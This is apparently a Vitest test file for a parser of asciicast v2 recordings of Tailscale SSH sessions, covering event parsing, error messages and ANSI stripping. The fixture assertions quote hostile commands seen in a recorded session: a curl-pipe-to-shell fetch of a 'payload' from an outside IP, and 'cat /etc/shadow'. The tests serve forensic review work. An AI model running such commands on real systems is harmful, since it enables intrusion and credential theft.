import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { castSearchText, CastError, looksLikeCast, MAX_CAST_LINE, parseCastFile, parseCastText, parseCastTextLine, toPlainText } from "./cast";

const fixture = (name: string) => path.join(__dirname, "..", "..", "..", "tests", "fixtures", "evidence", name);
const header = JSON.stringify({ version: 2, width: 80, height: 24 });
const errorOf = (text: string) => {
  try {
    parseCastText(text);
  } catch (error) {
    return error as CastError;
  }
  throw new Error("expected the recording to be refused");
};

describe("asciicast v2 recordings", () => {
  it("parses Tailscale's recording: header keys, events, duration and the output as text lines with their times", async () => {
    const summary = await parseCastFile(fixture("ssh-session.cast"));
    expect(summary.header).toMatchObject({ version: 2, width: 100, height: 30, sshUser: "root", srcNodeID: "nAbC123CNTRL" });
    expect(summary.events).toBe(18);
    expect(summary.duration).toBeCloseTo(16.77);
    const curl = summary.lines.find((l) => l.text.includes("curl -fsSL"));
    expect(curl).toEqual({ at: 3.125, text: "root@db-1:~# curl -fsSL http://203.0.113.50/x.sh | sh" });
    expect(summary.lines.map((l) => l.text)).toContain("downloading payload...");
    // Characters typed one event at a time make one line, timed from its first character.
    expect(summary.lines.find((l) => l.text.endsWith("whoami"))?.at).toBe(0.061);
  });

  it("parses the sample from the Tailscale logs reference too", () => {
    const summary = parseCastText(readFileSync(path.join("/work/shared/samples/ssh-session.cast"), "utf8"));
    expect(summary.lines.some((l) => l.text.includes("cat /etc/shadow"))).toBe(true);
  });

  it("refuses another version, naming line 1", async () => {
    await expect(parseCastFile(fixture("wrong-version.cast"))).rejects.toThrow(/Line 1 .*version 1 is not supported; only version 2/);
    expect(errorOf(JSON.stringify({ version: 2, width: 0, height: 24 })).message).toMatch(/width and height/);
    expect(errorOf("[1, 2, 3]").message).toMatch(/header must be a JSON object/);
  });

  it("refuses a line that is not JSON, naming it", async () => {
    const error = (await parseCastFile(fixture("bad-json-line.cast")).catch((e: unknown) => e)) as CastError;
    expect(error).toBeInstanceOf(CastError);
    expect(error.line).toBe(5);
    expect(error.message).toMatch(/^Line 5 of the recording: not valid JSON/);
  });

  it("refuses events out of order", async () => {
    await expect(parseCastFile(fixture("out-of-order.cast"))).rejects.toThrow(/Line 7 .*out of order: 1 comes after 2\.64\./);
  });

  it("refuses malformed events: wrong shape, negative time, unknown codes, non-string data", () => {
    expect(errorOf(`${header}\n{"t":1}`).message).toMatch(/Line 2 .*JSON array/);
    expect(errorOf(`${header}\n[-1, "o", "x"]`).message).toMatch(/Line 2 .*0 or more/);
    expect(errorOf(`${header}\n["1", "o", "x"]`).message).toMatch(/Line 2 .*number of seconds/);
    expect(errorOf(`${header}\n[1, "z", "x"]`).message).toMatch(/unknown event code "z"/);
    expect(errorOf(`${header}\n[1, "o", 5]`).message).toMatch(/data must be a string/);
    expect(errorOf("").message).toMatch(/Line 1 .*empty/);
    expect(errorOf(`\n${header}`).message).toMatch(/Line 1 .*JSON header/);
  });

  it("refuses a huge line without trying to parse it", () => {
    const huge = `[1, "o", "${"A".repeat(MAX_CAST_LINE)}"]`;
    const error = errorOf(`${header}\n${huge}`);
    expect(error.line).toBe(2);
    expect(error.message).toMatch(/characters long; the limit is/);
  });

  it("accepts input, marker and resize events and a trailing blank line", () => {
    const summary = parseCastText(`${header}\n[0.5, "i", "ls\\r"]\n[0.6, "r", "100x30"]\n[0.7, "m", ""]\n[1, "o", "file.txt\\r\\n"]\n\n`);
    expect(summary.events).toBe(4);
    expect(summary.lines).toEqual([{ at: 1, text: "file.txt" }]);
  });

  it("strips ANSI escape sequences, applies carriage returns and backspaces, drops other controls", () => {
    expect(toPlainText("\u001b[01;32mroot@db-1\u001b[00m:~# ")).toBe("root@db-1:~# ");
    expect(toPlainText("\u001b]0;title\u0007prompt")).toBe("prompt");
    expect(toPlainText("progress 10%\rprogress 100%\r\n")).toBe("progress 100%\n");
    expect(toPlainText("lss\bs -la")).toBe("lss -la");
    expect(toPlainText("a\u0000b\u0007c\td")).toBe("abc\td");
  });

  it("writes searchable text with time offsets that read back", () => {
    const text = castSearchText(parseCastText(`${header}\n[1.25, "o", "hello\\r\\n"]\n[2, "o", "world\\r\\n"]\n`));
    expect(text).toBe("[1.250] hello\n[2.000] world");
    expect(parseCastTextLine("[1.250] hello")).toEqual({ at: 1.25, text: "hello" });
    expect(parseCastTextLine("no time")).toBeNull();
  });

  it("recognises a recording by its first line", () => {
    expect(looksLikeCast(`${header}\n[0.1,"o","x"]`)).toBe(true);
    expect(looksLikeCast('{"version":1,"width":80}')).toBe(false);
    expect(looksLikeCast("plain text")).toBe(false);
  });
});
